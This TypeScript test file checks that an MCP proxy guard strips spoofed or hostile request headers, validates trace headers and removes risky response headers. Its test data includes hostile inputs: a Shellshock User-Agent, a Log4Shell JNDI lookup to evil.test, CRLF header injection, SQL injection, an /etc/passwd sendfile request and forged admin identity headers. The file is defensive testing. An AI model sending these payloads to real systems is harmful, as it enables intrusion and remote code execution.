import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { as, type Hostile, openSession, rpc, startHostile, tokens } from "./support/guard.ts";
import { exchange, request } from "./support/raw.ts";
import { recording } from "./support/upstream.ts";

let guard: Hostile;
beforeAll(async () => {
  guard = await startHostile({
    upstream: { headers: { "x-server-key": "the-servers-own-key" } },
    breaker: { failures: 1, openSeconds: 3600 },
  });
});
afterAll(() => guard.close());

const ping = '{"jsonrpc":"2.0","id":1,"method":"ping"}';

/** Sends a ping with these lines in its head; what the server saw of it. */
async function reach(lines: string[], accept = "Accept: application/json, text/event-stream") {
  const head = [
    "POST /mcp HTTP/1.1",
    "Host: localhost",
    `Authorization: Bearer ${tokens.alice}`,
    "Content-Type: application/json",
    `Content-Length: ${ping.length}`,
    accept,
  ];
  const end = lines.some((line) => line.startsWith("Connection")) ? [] : ["Connection: close"];
  const [answer] = await exchange(guard.url, request([...head, ...end, ...lines], ping));
  const [seen] = guard.upstream.seen.splice(0);
  return { answer, seen };
}

/** All that the server gets of a request without a session and a trace. */
const plain = ["accept", "connection", "content-length", "content-type", "host", "x-server-key"];

const forged: Record<string, string[]> = {
  "who calls, from where, for a proxy": [
    "X-Forwarded-For: 127.0.0.1",
    "X-Forwarded-Host: evil.test",
    "X-Forwarded-Proto: https",
    "X-Forwarded-Prefix: /admin",
    "Forwarded: for=127.0.0.1;host=evil.test",
    "X-Real-IP: 127.0.0.1",
    "True-Client-IP: 127.0.0.1",
    "Via: 1.1 evil",
    "X-Forwarded-User: admin",
    "X-Remote-User: admin",
    "X-Auth-Request-Email: admin@example.com",
    "X-MS-CLIENT-PRINCIPAL: YWRtaW4=",
    "X-Client-Cert: admin",
  ],
  "another path or method": [
    "X-Original-URL: /admin",
    "X-Rewrite-URL: /admin",
    "X-HTTP-Method-Override: DELETE",
    "X-HTTP-Destinationurl: http://evil.test",
    "X-Accel-Redirect: /admin",
    "X-Sendfile: /etc/passwd",
  ],
  "what the guard itself says": [
    "X-Server-Key: mine",
    "X_Server_Key: mine",
    "x-server-key : mine".replace(" :", ":"),
  ],
  "headers with underscores": ["Content_Length: 1", "Mcp_Session_Id: x", "Transfer_Encoding: chunked"],
  "cookies and credentials": ["Cookie: session=1", "Proxy-Authorization: Basic eDp5", "X-Api-Key: k"],
  "caches and ranges": [
    "Range: bytes=0-0",
    "If-None-Match: *",
    "Cache-Control: no-cache",
    "TE: trailers",
    "Pragma: x",
  ],
  "the parser": ["Accept-Encoding: gzip", "Content-Language: x", "Content-MD5: x", "Keep-Alive: timeout=999"],
  "the names of objects": ["__proto__: x", "constructor: x", "toString: x", "hasOwnProperty: x"],
  "a shell": ["User-Agent: () { :; }; /bin/true", "Referer: %24{jndi:ldap://evil.test/a}"],
};

describe("a header that nobody needs doesn't reach the server", () => {
  it.each(Object.entries(forged))("%s", async (_name, lines) => {
    const { seen } = await reach(lines);
    expect(Object.keys(seen?.headers ?? {}).sort()).toEqual(plain);
    expect(seen?.headers["x-server-key"]).toBe("the-servers-own-key");
    expect(seen?.headers.host).toBe(guard.upstream.url.host);
  });

  it("and Connection takes none of those away that do", async () => {
    const session = await openSession(guard.url);
    guard.upstream.seen.length = 0;
    const hops = "Connection: close, Mcp-Session-Id, X-Server-Key, Authorization, Content-Length, Accept";
    const { answer, seen } = await reach([`Mcp-Session-Id: ${session}`, hops]);
    expect(answer?.status).toBe(200);
    expect(seen?.headers).toMatchObject({ "mcp-session-id": session, "x-server-key": "the-servers-own-key" });
    const strange = await reach([`Mcp-Session-Id: ${session}`, hops.replace("Authorization, ", ""), "X: y"]);
    expect(strange.answer?.status).toBe(200);
  });
});

describe("a trace", () => {
  const trace = "4bf92f3577b34da6a3ce929d0e0e4736";
  const good = `00-${trace}-00f067aa0ba902b7-01`;

  it.each([
    ["garbage", "evil"],
    ["another version", `ff-${trace}-00f067aa0ba902b7-01`],
    ["zeros", `00-${"0".repeat(32)}-00f067aa0ba902b7-01`],
    ["upper case", good.toUpperCase()],
    ["something behind", `${good}-evil`],
    ["a long one", `${good}${"0".repeat(4000)}`],
    ["bytes above ASCII", `${good}\xe9`],
    ["two in one", `${good}, ${good}`],
    ["a query", `00-' OR 1=1;--${trace.slice(14)}-00f067aa0ba902b7-01`],
  ])("that is malformed is left out: %s", async (_name, value) => {
    const { seen } = await reach([`Traceparent: ${value}`, "Tracestate: a=b"]);
    expect(Object.keys(seen?.headers ?? {}).sort()).toEqual(plain);
  });

  it("is passed on in its plain form, with as much state and baggage as the specifications allow", async () => {
    const state = Array.from({ length: 60 }, (_, i) => `v${i}=${"x".repeat(20)}`).join(",");
    const baggage = Array.from({ length: 150 }, (_, i) => `k${i}=\xe9%20${"y".repeat(40)}`).join(",");
    const { answer, seen } = await reach([
      `traceparent: ${good}`,
      `tracestate: ${state}`,
      `baggage: ${baggage}`,
    ]);
    expect(answer?.status).toBe(400); // The server's, which wants a session.
    expect(seen?.headers["traceparent"]).toBe(good);
    expect(String(seen?.headers["tracestate"] ?? "").length).toBeLessThanOrEqual(512);
    expect(String(seen?.headers["tracestate"] ?? "").split(",").length).toBeLessThanOrEqual(32);
    expect(String(seen?.headers["baggage"]).length).toBeLessThanOrEqual(8192);
    expect(String(seen?.headers["baggage"])).toMatch(/^[\x21-\x7e]+$/);
  });
});

describe("a header that does reach the server", () => {
  it("breaks no connection to it, whatever bytes it has, and so no circuit for all", async () => {
    const odd = [
      "\xe9\xff",
      "a\tb",
      "x".repeat(8000),
      '"',
      "%0d%0aEvil: 1",
      "\\r\\nEvil: 1",
      ",".repeat(2000),
    ];
    for (const value of odd) {
      for (const name of ["Accept", "Mcp-Protocol-Version", "Last-Event-ID", "tracestate", "baggage"]) {
        const { answer } =
          name === "Accept" ? await reach([], `Accept: ${value}`) : await reach([`${name}: ${value}`]);
        expect([400, 406, 431], `${name}: ${value.slice(0, 9)}`).toContain(answer?.status);
      }
    }
    // One failure would have opened it, and a request would be answered 503.
    expect(await guard.metrics()).toContain('mcp_guard_breaker_state{server="hostile"} 0\n');
    await guard.untouched();
  });
});

describe("an answer of the server", () => {
  it("has no headers that a page, a cache or a proxy would obey", async () => {
    const upstream = await recording((_req, res) => {
      res.writeHead(200, {
        "content-type": "application/json",
        "set-cookie": ["a=b", "c=d"],
        "access-control-allow-origin": "*",
        "access-control-allow-credentials": "true",
        "x-accel-redirect": "/admin",
        server: "secret/1.0",
        "x-powered-by": "secret",
        location: "http://evil.test",
        "content-security-policy": "x",
        "mcp-session-id": "unasked",
        connection: "close",
      });
      res.end('{"jsonrpc":"2.0","id":1,"result":{}}');
    });
    const other = await startHostile({}, { upstream });
    const { headers } = await rpc(other.url, { id: 1, method: "ping" }, as("bob"));
    expect([...headers.keys()].sort()).toEqual([
      "connection",
      "content-length",
      "content-type",
      "date",
      "keep-alive",
    ]);
    await other.close();
  });
});
